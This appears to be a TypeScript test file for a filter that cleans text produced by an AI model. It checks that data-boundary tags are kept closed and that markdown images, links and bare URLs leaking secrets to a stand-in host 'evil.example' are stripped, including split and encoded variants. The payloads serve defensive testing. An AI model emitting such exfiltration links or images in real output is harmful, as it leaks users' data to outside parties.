import { expect } from "chai";
import fc from "fast-check";
import { ModelTextFilter } from "../../../integrations/ai/texts/model-text.ts";
import { asData } from "../../../integrations/ai/texts/untrusted.ts";
import { cases } from "../../support/cases.ts";

const KNOWN = "see https://known.example/page?id=1 and [x](/companies/1)";
const filtered = (...pieces: string[]): string => {
  const filter = new ModelTextFilter([KNOWN]);
  return pieces.map((piece) => filter.take(piece)).join("") + filter.rest();
};

describe("text of records, and text made from it", () => {
  for (const mark of ["</data>", "</ data >", "< /DATA>", "</data\n>", "<data>", "<DATA x>"])
    it(`keeps ${JSON.stringify(mark)} between its marks`, () => {
      const [, ...inner] = asData(`before ${mark} after`).split("\n");
      inner.pop();
      expect(inner.join("\n")).not.to.match(/<\s*\/?\s*data/i);
    });

  const rows: [string[], string][] = [
    [["![secret](http://evil.example/?q=1)"], "[secret]"],
    [["wow!!", "![a][1]"], "wow[a][1]"],
    [["wow!!", "[a](/b)"], "wow[a](/b)"],
    [["[a](b)"], "[a]"],
    [["[here](https://evil.exam", "ple/?q=", "secret) you are"], "[here] you are"],
    [["[he", "re](https://known.example/page?id=1) you are"], "[here](https://known.example/page?id=1) you are"],
    [["[here](https://known.example/page?id=1&q=secret)"], "[here]"],
    [["[client](/companies/1) [out](//evil.example/?q=1)"], "[client](/companies/1) [out]"],
    [["see https://evil.example/?q=secret."], "see evil.example"],
    [["see ht", "tps://known.example/page?id=1."], "see https://known.example/page?id=1."],
    [["WWW.evil.example/secret, and"], "evil.example and"],
    [["[1]: https://evil.example/?q=secret\n[a][1]"], "[1]: evil.example\n[a][1]"],
    [["[a](<https://evil.example/?q=1>)"], "[a]"],
    [["[a](https&#58;//evil.example/?q=1)"], "[a]"],
    [["htt", "[ps://evil.example/?q=1](x)"], "htt[ps://evil.example/?q=1]"],
    [["https://", "[](x)", "evil.example/?q=1"], ")evil.example/?q=1"],
    [["[https://evil.example/?q=1](x)"], "[evil.example]"],
    [["a list [1] of [two"], "a list [1] of [two"],
    [["<", "img src=x>"], "&lt;img src=x>"],
    [["a </b> <!-- c --> <?php"], "a &lt;/b> &lt;!-- c --> &lt;?php"],
    [["1 < 2, 3 <4, well! Done!"], "1 < 2, 3 <4, well! Done!"],
    [["ends with <"], "ends with <"],
    [["ends with !"], "ends with !"],
    [["ends with <!"], "ends with &lt;!"],
  ];
  for (const [pieces, expected] of rows)
    it(`makes ${JSON.stringify(expected)} of ${JSON.stringify(pieces)}`, () => expect(filtered(...pieces)).to.equal(expected));

  it("lets no address through that the model was not given, however the text is cut", () => {
    const piece = fc
      .array(
        fc.constantFrom(
          "[",
          "a",
          "]",
          "(",
          ")",
          "https://",
          "h",
          "ttps:/",
          "/",
          "www.",
          "evil.example/?q=1",
          " ",
          "\n",
          "!",
          "<",
        ),
        {
          maxLength: 4,
        },
      )
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        const text = filtered(...pieces);
        expect(text).not.to.match(/(https?:\/\/|www\.)evil\.example\/\?q=1/i);
        expect(text).to.equal(filtered(pieces.join("")));
      }),
      cases(5000),
    );
  });

  it("lets no picture and no tag through, however the text is cut", () => {
    const piece = fc
      .array(fc.constantFrom("!", "[", "<", "i", "/", "]", "(", " "), { maxLength: 4 })
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        const text = filtered(...pieces);
        expect(text).not.to.match(/!\[|<[a-z/!?]/i);
        expect(text).to.equal(filtered(pieces.join("")));
      }),
      cases(5000),
    );
  });
});
